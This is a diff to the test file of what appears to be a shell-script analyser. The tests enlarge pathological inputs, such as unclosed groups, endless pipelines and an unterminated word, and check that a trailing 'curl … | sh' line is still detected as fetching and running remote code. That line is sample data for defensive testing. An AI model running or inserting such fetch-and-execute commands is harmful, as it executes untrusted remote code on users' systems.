@@ -104,11 +104,13 @@ test.each([["$(".repeat(500)], ["(".repeat(500)], ["<(".repeat(500)]])(
 
 test.each([
   ["what nests too deep", `${"(".repeat(500)}\n`],
-  ["a group without end", `(${"a;".repeat(20_000)}\n`],
-  ["a pipeline without end", `${"a | ".repeat(20_000)}\n`],
-])("%s hides nothing that follows", (_, script) => {
+  ["a group without end", `(${"a;".repeat(60_000)}\n`],
+  ["a pipeline without end", `${"a | ".repeat(60_000)}\n`],
+  ["a word without end", `echo "${"$a".repeat(60_000)}\n`],
+])("%s is said, and hides nothing that follows", (_, script) => {
   const deeds = deedsIn("a.sh", `${script}curl -s https://a.sample.dev | sh\n`);
   expect(signed(deeds, "run")).toContain("fetched");
+  expect(said(deeds, "unread")).toHaveLength(1);
 });
 
 test("a word of English is no program", () => {
